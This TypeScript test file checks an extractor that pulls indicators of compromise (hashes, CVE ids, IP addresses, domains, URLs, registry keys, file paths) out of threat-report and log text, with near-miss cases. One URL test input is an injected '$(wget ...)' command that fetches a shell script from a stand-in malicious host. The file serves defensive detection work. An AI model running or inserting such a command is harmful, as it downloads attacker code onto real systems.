import { MD5 } from './digests';
import { describeRows } from './rows';
import type { Row } from './rows';

/** Classes of mistakes that reports, logs and mails brought to light: each with what must be found and a near miss. */
const SHA256 = `${MD5}${MD5.split('').reverse().join('')}`;
const P = 'domain parcel-track.top';

const digests: Row[] = [
  ['sample stored under its digest', `${SHA256}.bin`, [`file_name ${SHA256}.bin`, `sha256 ${SHA256}`]],
  ['picture named after its content', `${SHA256}.png`, [`file_name ${SHA256}.png`]],
  ['word and hyphen before a digest', `sample-${SHA256} ran`, [`sha256 ${SHA256}`]],
  ['digits of a longer word', `sample${SHA256} ran`, []],
  ['nested key of JA3', `"ja3":{"hash":"${MD5}"}`, [`ja3 ${MD5}`]],
  ['word that ends like JA3', `ninja3: ${MD5}`, [`md5 ${MD5}`]],
  ['commit in backticks', `commit \`${MD5}${MD5.slice(0, 8)}\``, []],
  ['digest in backticks', `sample \`${MD5}${MD5.slice(0, 8)}\``, [`sha1 ${MD5}${MD5.slice(0, 8)}`]],
  ['id inside a detection name', 'Exploit.MSOffice.CVE-2017-11882.gen', ['cve CVE-2017-11882']],
  ['id with too few digits inside a name', 'Exploit.MSOffice.CVE-2017-11.gen', []],
  ['tag of a rule for a vulnerability', '- cve.2021.44228', ['cve CVE-2021-44228']],
  ['tag of a rule for a tactic', '- attack.execution', []],
];

const addresses: Row[] = [
  ['port of a firewall log', 'to outside:203.0.113.7/443 (ok)', ['ipv4 203.0.113.7']],
  ['network of a firewall log', 'to 203.0.113.0/24 (ok)', ['cidr 203.0.113.0/24']],
  [
    'flow of a packet dump',
    'IP 203.0.113.7.51822 > 203.0.113.9.443: Flags',
    ['ipv4_port 203.0.113.7:51822', 'ipv4 203.0.113.7', 'ipv4_port 203.0.113.9:443', 'ipv4 203.0.113.9'],
  ],
  ['five numbers without a flow', 'OID 1.3.6.1.4 and 203.0.113.7.51822', []],
  ['pin of a package', 'pip install acme==1.0.0.1', []],
  ['filter of an analyser', 'ip.addr==203.0.113.7', ['ipv4 203.0.113.7']],
  ['product by name', 'AnyDesk 7.0.8.0 and WhatsApp 2.23.10.77', []],
  [
    'host after a capitalised word',
    'Server 203.0.113.7 and Relay 203.0.113.8',
    ['ipv4 203.0.113.7', 'ipv4 203.0.113.8'],
  ],
  ['build of a release', 'MOVEit 2023.0.1 (15.0.1.36)', []],
  ['address of a host in brackets', 'relay 7 (203.0.113.7)', ['ipv4 203.0.113.7']],
  ['field named after a version', 'FileProductVersion == "22.3.5.1"', []],
  ['section sign', 'see §4.1.2.3, page 2', []],
  ['list that a version does not head', 'seen 203.0.113.7, 203.0.113.8', ['ipv4 203.0.113.7', 'ipv4 203.0.113.8']],
  ['earlier versions after the number', '9.1.2.3 and earlier', []],
  ['another address after the number', '203.0.113.7 and later 203.0.113.8', ['ipv4 203.0.113.7', 'ipv4 203.0.113.8']],
  ['mask', 'mask 255.255.248.0 set', []],
  ['address that starts like a mask', 'from 255.255.3.7 spoofed', ['ipv4 255.255.3.7']],
  ['key of JSON glued to an address', '{"ip":2001:db8::1}', ['ipv6 2001:db8::1']],
  ['clock after a label', 'UTC:10:20:30', []],
  ['IPv6 range out of order', '2001:db8::9 - 2001:db8::1', ['ipv6 2001:db8::9', 'ipv6 2001:db8::1']],
];

const names: Row[] = [
  ['package with a class behind it', 'android.net.Uri and creditonline.app.Droid', []],
  ['sentence glued to a host', 'saw parcel-track.com.The next', ['domain parcel-track.com']],
  [
    'country first in a phishing host',
    'uk.parcel-track.live and fr.bank-verify.club',
    ['domain uk.parcel-track.live', 'domain fr.bank-verify.club'],
  ],
  ['package of a country', 'de.acme.app and uk.co.acme.shop', []],
  ['detection name with a mark', 'W64/Generic.CA!tr', []],
  ['host before a mark', 'Block parcel-track.top!', [P]],
  ['selector of a style sheet', '.panel.top{color:red}', []],
  ['host before a blank and a brace', 'parcel-track.top {', [P]],
  ['call of a method', 'axios.post(...) and logger.info("x")', []],
  [
    'host with its address in brackets',
    'parcel-track.info (203.0.113.7)',
    ['domain parcel-track.info', 'ipv4 203.0.113.7'],
  ],
  ['member of a member', 'window.location.host and req.body.id', []],
  ['host that starts like a receiver', 'window-shop.host', ['domain window-shop.host']],
  ['members of a parser', 'node.id.name, event.target and parsed.data', []],
  [
    'person under .name',
    'frodo.looijaard.name and news.info-data.name',
    ['domain frodo.looijaard.name', 'domain news.info-data.name'],
  ],
  ['templates of a build', 'config.h.in, configure.ac and version.pm', ['file_name version.pm']],
  ['host under .in', 'shop.bank-verify.in', ['domain shop.bank-verify.in']],
  ['key of a record', '{"tool.name":"x"}', []],
  ['host as a value', '{"x":"tool-shop.name"}', ['domain tool-shop.name']],
  ['script named like a person', 'Fattura.js and Node.js', ['file_name Fattura.js']],
  ['CJK sentence around a host', '访问parcel-track.top下载', [P]],
  ['CJK full stop after a host', '访问parcel-track.top。下载', [P]],
  ['ideographic full stop as a mark', 'parcel-track。top', [P]],
  ['pictures around a host', '👉parcel-track[.]top👈', [P]],
  ['dots in round brackets', 'call run(...) now', []],
];

const urls: Row[] = [
  ['picture after a URL', 'http://parcel-track.top/a👈', ['url http://parcel-track.top/a']],
  ['tilde of struck-out text', '~~http://parcel-track.top/a~~', ['url http://parcel-track.top/a']],
  ['tilde of an encoded value', 'http://parcel-track.top/?x=YQ~~', ['url http://parcel-track.top/?x=YQ~~']],
  ['date in the next field', 'http://parcel-track.top/?a,2017-10-03 11:33', ['url http://parcel-track.top/?a']],
  ['list in a query', 'http://parcel-track.top/?ids=1,2,3', ['url http://parcel-track.top/?ids=1,2,3']],
  ['bracket closed outside', '$(wget%20http://parcel-track.top/t.sh)', ['url http://parcel-track.top/t.sh']],
  ['bracket closed inside', 'http://parcel-track.top/t_(x)', ['url http://parcel-track.top/t_(x)']],
  ['template in a query', 'http://parcel-track.top/?d=${x}', ['url http://parcel-track.top/?d=']],
  ['placeholder in a path', 'http://parcel-track.top/{id}/a', ['url http://parcel-track.top/%7Bid%7D/a']],
  [
    'link that a gateway rewrote',
    'https://gate.example.com/v3/__https://parcel-track.top/a__;!!Ab1!xy$',
    ['url https://gate.example.com/v3/__https://parcel-track.top/a__;!!Ab1!xy$', 'url https://parcel-track.top/a'],
  ],
  ['one slash without a disguise', 'https:/parcel-track.top', [P]],
];

const texts: Row[] = [
  ['blanks around a mark', 'parcel-track [.] top', [P]],
  ['mark in a sentence', 'they put [.] in front of it', []],
  ['blanks around one mark of two', 'parcel-track[.]top [.] com', [P]],
  ['bracket that never closes, twice', 'cdn[.parcel-track[.top', ['domain cdn.parcel-track.top']],
  ['form with a blank', 'ip=%20203.0.113.7', ['ipv4 203.0.113.7']],
  ['escape inside a URL', 'http://parcel-track.top/?q=a%40b.com', ['url http://parcel-track.top/?q=a%40b.com']],
  ['escaped line break before a file', String.raw`"Startup\notes.txt"`, ['file_name notes.txt']],
  [
    'full line with an equals sign at its end',
    `${'x'.repeat(60)} a.parcel=\n-track.top`,
    ['domain a.parcel-track.top'],
  ],
  ['short line with an equals sign at its end', 'a.parcel=\n-bank-verify.net', ['domain bank-verify.net']],
];

const artefacts: Row[] = [
  [
    'hive in angle brackets',
    String.raw`<HKCU>\SOFTWARE\Acme-1`,
    [String.raw`registry_key HKEY_CURRENT_USER\SOFTWARE\Acme-1`],
  ],
  ['tag in angle brackets', String.raw`<b>\SOFTWARE\Acme`, []],
  [
    'quoted value after a key',
    String.raw`HKCU\Software\Run\'Upd'`,
    [String.raw`registry_key HKEY_CURRENT_USER\Software\Run`],
  ],
  [
    'note of an extortionist',
    String.raw`C:\Users\a\HOW TO DECRYPT FILES.txt`,
    [String.raw`windows_path C:\Users\a\HOW TO DECRYPT FILES.txt`],
  ],
  ['sentence after a folder', String.raw`C:\Users\a was read. Then`, [String.raw`windows_path C:\Users\a`]],
  ['string inside a string', String.raw`"\"C:\\Temp\\a.exe\" -x"`, [String.raw`windows_path C:\Temp\a.exe`]],
  ['folder at the end of a field', String.raw`"C:\Temp\sub\",x`, ['windows_path C:\\Temp\\sub\\']],
  ['path after a tag', '<td>/etc/cron.d/a</td>', ['unix_path /etc/cron.d/a']],
  ['path after a placeholder', 'http://<host>/etc/cron.d/a', []],
  [
    'name with blanks after a digest',
    `${MD5}  deed contract 12.08.20.doc`,
    [`md5 ${MD5}`, 'file_name deed contract 12.08.20.doc'],
  ],
  ['name with blanks in a field', 'x,tax return 2023.pdf,y', ['file_name tax return 2023.pdf']],
  ['sentence with commas', 'x, then open a.pdf, and', ['file_name a.pdf']],
  ['command in quotes', '"run a.bat b.exe"', ['file_name a.bat', 'file_name b.exe']],
  ['apostrophe in an address', "o'brien@parcel-track.top", ["email o'brien@parcel-track.top"]],
  ['quotes around an address', "'brien@parcel-track.top'", ['email brien@parcel-track.top']],
];

describeRows('digests and ids', digests);
describeRows('addresses and versions', addresses);
describeRows('names', names);
describeRows('URLs', urls);
describeRows('marks and escapes', texts);
describeRows('artefacts', artefacts);
